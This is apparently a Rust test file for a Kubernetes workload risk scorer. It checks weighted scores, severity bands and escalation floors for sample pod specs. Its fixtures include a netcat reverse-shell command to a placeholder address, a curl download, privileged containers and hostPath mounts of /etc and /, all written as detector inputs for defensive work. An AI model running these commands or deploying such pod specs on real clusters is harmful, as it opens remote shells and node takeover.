use super::*;
use crate::assess::{Assessment, assess};
use crate::workload::Kind;
use crate::workload::decode::Object;

fn judge(namespace: &str, pod_spec: &str) -> Assessment {
    let pod: serde_json::Value = serde_saphyr::from_str(pod_spec).unwrap();
    let object = serde_json::json!({"metadata": {"name": "sample", "namespace": namespace},
        "spec": {"template": {"spec": pod}}});
    let object: Object = serde_json::from_value(object).unwrap();
    assess(Kind::Job, &object)
}

fn floors(assessment: &Assessment) -> Vec<&'static str> {
    assessment.score.floors.iter().map(|floor| floor.id).collect()
}

#[test]
fn weights_fall_and_the_rest_counts_a_tenth() {
    assert_eq!(weighted(vec![]), 0);
    assert_eq!(weighted(vec![35]), 35);
    // 35 + 0.6 · 35 = 56
    assert_eq!(weighted(vec![35, 35]), 56);
    // 10 · (1 + 0.6 + 0.4 + 0.3 + 0.2 + 0.15 + 0.1 + 0.1 + 0.1) = 29.5, half up
    assert_eq!(weighted(vec![10; 9]), 30);
}

#[test]
fn a_sum_can_be_redone_by_hand() {
    // host: 35 privileged + 0.6 · 35 writable /etc + 0.4 · 15 host network = 62, cut at 60
    // command: 50 reverse shell + 0.6 · 10 bare address + 0.4 · 3 download = 57.2; a quarter of it comes on top
    // image: 4 operating system + 0.6 · 1 no tag = 4.6
    let found = judge(
        "n",
        r#"
hostNetwork: true
volumes: [{name: v, hostPath: {path: /etc}}]
containers:
  - name: a
    image: alpine
    securityContext: {privileged: true}
    volumeMounts: [{name: v, mountPath: /e}]
    command: [sh, -c, "curl http://x.test; nc -e /bin/sh 192.0.2.1 1"]
"#,
    );
    let score = &found.score;
    assert_eq!(score.families[&Family::Host], 60);
    assert_eq!(score.families[&Family::Command], 57);
    assert_eq!(score.families[&Family::Image], 5);
    assert_eq!(score.combination, 14);
    assert_eq!(score.total, 100);
    assert_eq!(score.severity, Severity::Critical);
    assert_eq!(floors(&found), ["attack-on-node"]);
}

#[test]
fn a_rule_counts_once_and_host_paths_four_times() {
    let privileged = "containers: [{name: a, securityContext: {privileged: true}}, {name: b, securityContext: {privileged: true}}]";
    assert_eq!(judge("n", privileged).score.total, 35);
    let mut volumes = String::from("volumes:\n");
    for index in 0..6 {
        volumes.push_str(&format!("- {{name: v{index}, hostPath: {{path: /srv/{index}}}}}\n"));
    }
    // Not mounted, so 2 points each: 2 · (1 + 0.6 + 0.4 + 0.3) = 4.6
    assert_eq!(judge("n", &volumes).score.total, 5);
}

#[test]
fn bands_are_the_severity() {
    for (total, expected) in
        [(4, Severity::None), (5, Severity::Low), (25, Severity::Medium), (45, Severity::High)]
    {
        let band =
            BANDS.iter().find(|(lowest, _)| total >= *lowest).map_or(Severity::None, |(_, band)| *band);
        assert_eq!(band, expected, "{total}");
    }
}

#[test]
fn floors_raise_and_are_named() {
    let root = "
volumes: [{name: v, hostPath: {path: /}}]
containers: [{name: a, securityContext: {privileged: true}, volumeMounts: [{name: v, mountPath: /h, readOnly: true}]}]";
    let found = judge("n", root);
    assert_eq!((found.score.severity, floors(&found)), (Severity::High, vec!["node-takeover"]));

    let shell = "containers: [{name: a, command: [nc, -e, /bin/sh, 192.0.2.1, '1']}]";
    assert_eq!(judge("n", shell).score.severity, Severity::High);
    let found = judge("kube-system", shell);
    assert_eq!(
        (found.score.severity, floors(&found)),
        (Severity::Critical, vec!["attack-in-system-namespace"])
    );

    let unreadable = judge("n", "containers: 7");
    assert_eq!((unreadable.score.severity, floors(&unreadable)), (Severity::High, vec!["unreadable"]));
    assert_eq!(unreadable.score.total, 35);
}

#[test]
fn a_read_only_mount_is_no_way_to_the_node() {
    let found = judge(
        "n",
        "
volumes: [{name: v, hostPath: {path: /etc/cron.d}}]
containers: [{name: a, command: [nc, -e, /bin/sh, 192.0.2.1, '1'], volumeMounts: [{name: v, mountPath: /h, readOnly: true}]}]",
    );
    assert_eq!(floors(&found), Vec::<&str>::new());
    assert_eq!(found.score.severity, Severity::High);
}
